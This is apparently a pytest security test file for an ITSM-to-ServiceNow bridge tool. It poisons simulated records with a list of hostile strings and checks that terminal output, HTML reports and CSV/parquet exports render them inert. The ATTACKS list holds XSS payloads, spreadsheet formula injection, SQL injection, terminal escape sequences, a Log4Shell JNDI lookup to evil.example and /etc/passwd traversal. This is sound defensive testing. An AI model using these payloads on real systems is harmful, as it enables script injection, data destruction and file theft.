"""What strangers type goes through every stage and comes out as words: nothing runs, breaks or escapes."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pyarrow.parquet as parquet
import pytest
from world import NOW, STREAMS, Document, World

import itsm_bridge
from itsm_bridge_servicenow.testing import SimulatedServiceNow
from itsm_bridge_servicenow.testing.company import seeded_company
from itsm_bridge_servicenow.testing.records import Tables

pytestmark = pytest.mark.xdist_group("hostile text")

MARK = "owned-by-a-stranger"
ATTACKS = (
    f"<script>document.title='{MARK}'</script>", f"\"><img src=x onerror=\"document.title='{MARK}'\">",
    f"</style></title></script><svg/onload=document.title='{MARK}'>", f"javascript:document.title='{MARK}'",
    '=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1|x",
    "\x1b[2J\x1b]0;owned\x07", "\x9b31mred", "\x1b]8;;file:///etc/passwd\x1b\\x\x1b]8;;\x1b\\", "a\rb\nc\td\x0b",
    "[red]x[/red][link=file:///etc/passwd]y[/link]", "[/]", ":bomb:", "x'; DROP TABLE work_item; --", "'' OR 1=1",
    '"; DELETE FROM "work_item"', "^NQactive=true^ORDERBYx", "{number} {message!r} {0.__class__}", "{{ 7 * 7 }}{% raw %}",
    "${jndi:ldap://evil.example}", "$now %s %(x)s", "\u202egpj.exe\u200b", "\ufeff=1+1", "ＡＢＣ＝1", "../../etc/passwd",
    "C:\\Windows\\x.exe", "#REF!", "0", "null", "NaN", " ", "é\u0301🦊" * 3,
    "nul\x00byte", "l" * 20_000,
)  # fmt: skip
TEXTS = {
    "incident": ("number", "short_description", "description", "category", "close_notes", "close_code", "contact_type"),
    "problem": ("number", "short_description", "cause_notes", "fix_notes"),
    "change_request": ("number", "short_description", "justification", "backout_plan", "category"),
    "sys_user_group": ("name",), "sys_user": ("user_name", "name", "email"), "sys_choice": ("label",),
    "sc_cat_item": ("name",), "contract_sla": ("name", "schedule"), "sys_journal_field": ("value",),
    "sys_audit": ("newvalue", "user"), "sysapproval_approver": ("comments",),
}  # fmt: skip


def poisoned(tables: Tables) -> Tables:
    """Put an attack behind (or, where no number is needed, in place of) the words of every third record."""
    for table, names in TEXTS.items():
        for place, row in enumerate(tables[table]):
            for shift, name in enumerate(names):
                if place % 3 == 0 or name == "label":
                    attack = ATTACKS[(place // 3 + shift) % len(ATTACKS)]
                    row[name] = f"{attack} {row.get(name, '')}" if name in ("number", "user_name") else attack
    states = ["<b>State</b>", "'; --", "=1+1", "\x1b[2J"]
    for row, state in zip(tables["incident"][::4], states * 9, strict=False):
        row["state"] = state
    tables["incident"][1]["sys_id"] = "x'\"><script>document.title='owned'</script>"
    return tables


@dataclass(frozen=True)
class Attacked:
    """A world of strangers' words, its report, and everything that was printed."""

    world: World
    report: Document
    printed: dict[str, str]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    tables = poisoned(seeded_company(now=NOW, size=100).tables)
    with SimulatedServiceNow(tables, now=NOW) as server:
        world = World(tmp_path_factory.mktemp("attacked"), server)
        streams = json.dumps([*STREAMS, "sc_req_item", "sc_cat_item"])
        world.configure(
            re.sub("streams = .*", f'streams = {streams}\ntext = "keep"', world.signed_in()), shows_process=True
        )
        hostile = server.rows("incident")[0]["number"]
        commands = (
            ("doctor",), ("sweep", "-vv"), ("check", "-vv", "--log-json"), ("mapping", "lint"),
            ("mapping", "explain", hostile), ("mapping", "explain", "{number}' OR 1=1 --"), ("report",),
            ("mapping", "explain", hostile, "--json"), ("export", "out"), ("export", "out", "--format", "parquet"),
            ("verify",), ("doctor", "--json"),
        )  # fmt: skip
        printed = {}
        for command in commands:
            result = world.run(*command)
            assert result.exit_code in (0, 1, 2, 3), result.output
            printed[" ".join(command)] = result.stdout + result.stderr
            assert "Traceback" not in result.output
            assert "unexpected" not in result.output, result.output
        yield Attacked(world, json.loads(world.report("json")), printed)


def test_all_records_are_there_and_every_table_is_whole(attacked: Attacked) -> None:
    server, bridge = attacked.world.server, itsm_bridge.open(attacked.world.store)
    for record_type, table in (("incident", "incident"), ("problem", "problem"), ("change", "change_request")):
        held = bridge.sql(f"SELECT number, title_text FROM work_item WHERE record_type = '{record_type}'")
        rows = server.rows(table)
        assert sorted(held["number"]) == sorted(row["number"] for row in rows)
        kept = {text.strip() for text in held["title_text"].dropna()}
        assert {row["short_description"].strip() for row in rows if row["short_description"].isascii()} <= kept | {""}
    assert len(bridge.sql("SELECT * FROM support_group")) == len(server.rows("sys_user_group"))


def test_no_terminal_is_steered(attacked: Attacked) -> None:
    for command, text in attacked.printed.items():
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e]", text), command
    assert "[red]x[/red]" in "".join(attacked.printed.values())
    assert "␛[2J" in "".join(attacked.printed.values())


def test_a_terminal_in_colour_is_not_steered_either(attacked: Attacked) -> None:
    for command in (["report"], ["mapping", "lint"], ["doctor"]):
        shown = attacked.world.run(*command, environment={"FORCE_COLOR": "1"}).output
        assert "\x1b[" in shown
        assert not re.sub(r"\x1b\[[0-9;]*m", "", shown).count("\x1b")


def test_findings_say_the_words_and_obey_none_of_them(attacked: Attacked) -> None:
    messages = [finding["message"] for finding in attacked.report["findings"]]
    numbers = {finding["number"] for finding in attacked.report["findings"]}
    held = {
        row["number"]
        for table in ("incident", "problem", "change_request")
        for row in attacked.world.server.rows(table)
    }
    assert any(attack in number for number in numbers for attack in ATTACKS[:4])
    assert {number for number in numbers if any(attack in number for attack in ATTACKS if len(attack) > 4)} <= held
    assert not any("<class" in message or message[:2] == "49" for message in messages)


class _Page(HTMLParser):
    """Collects what a browser would run or follow."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.scripts: list[str] = []
        self.handlers: list[str] = []
        self.links: list[str] = []
        self.elements: set[str] = set()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action", "formaction", "data")]
        if tag == "script":
            self.scripts.append(str(attrs))


def test_the_page_runs_and_loads_nothing_of_a_stranger(attacked: Attacked) -> None:
    page = _Page(attacked.world.report("html"))
    assert len(page.scripts) == 1
    assert page.handlers == []
    assert not page.elements & {"img", "iframe", "object", "embed", "base", "form"}
    assert all(link.startswith(("#", attacked.world.server.url)) for link in page.links), page.links
    assert "&lt;script&gt;" in attacked.world.report("html")


@pytest.mark.skipif(shutil.which("chromium") is None, reason="needs chromium")
def test_a_real_browser_runs_nothing_of_a_stranger(attacked: Attacked, tmp_path: Path) -> None:
    page = max((attacked.world.folder / "reports").glob("*.html"))
    options = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", f"--user-data-dir={tmp_path}"]
    done = subprocess.run(
        ["chromium", *options, "--virtual-time-budget=2000", "--dump-dom", page.as_uri()],
        capture_output=True, text=True, check=False, timeout=60,
    )  # fmt: skip
    title = re.search(r"<title>(.*?)</title>", done.stdout, re.DOTALL)
    assert title is not None, done.stderr[-2000:]
    assert MARK not in title[1]
    assert "owned" not in title[1]


def test_a_spreadsheet_gets_words_and_no_formulas(attacked: Attacked) -> None:
    files = sorted((attacked.world.folder / "out").glob("*.csv"))
    assert "work_item.csv" in [path.name for path in files]
    cells = 0
    for path in files:
        with path.open(encoding="utf-8", newline="") as stream:
            rows = list(csv.reader(stream))
        raw = parquet.read_table(path.with_suffix(".parquet"))
        assert len(rows) == raw.num_rows + 1
        assert {len(row) for row in rows} == {raw.num_columns}
        for cell in (cell for row in rows for cell in row):
            cells += 1
            begins = cell.lstrip(" \u200b\ufeff\xa0")[:1]
            assert begins not in tuple("=@\t\r＝＋－＠") or not begins, (path.name, cell)
            assert begins not in ("+", "-") or re.fullmatch(r"[+-]?[0-9.e+-]+", cell), (path.name, cell)
            assert "\x00" not in cell
    assert cells > 1000


def test_the_document_for_programs_is_sound_and_keeps_the_words(attacked: Attacked) -> None:
    text = attacked.world.report("json")
    assert not re.search(r"[\x00-\x08\x0b-\x1f]", text)
    assert any(f["number"].startswith("<script>") for f in attacked.report["findings"])


def test_links_lead_into_the_tool_or_nowhere(attacked: Attacked) -> None:
    key = attacked.world.server.rows("incident")[1]["sys_id"]
    assert any(key in finding["subject"] for finding in attacked.report["findings"]), (
        "the record with a strange key fails"
    )
    for finding in attacked.report["findings"]:
        if key in finding["subject"]:
            assert not re.search(r"[\"'<> ]", finding["url"] or ""), finding["url"]


def test_a_second_sweep_of_the_same_words_changes_nothing(attacked: Attacked) -> None:
    told = json.loads(attacked.world.run("sync", "--json").stdout)
    assert told["appended"] == 0
    assert attacked.world.run("verify").exit_code == 0
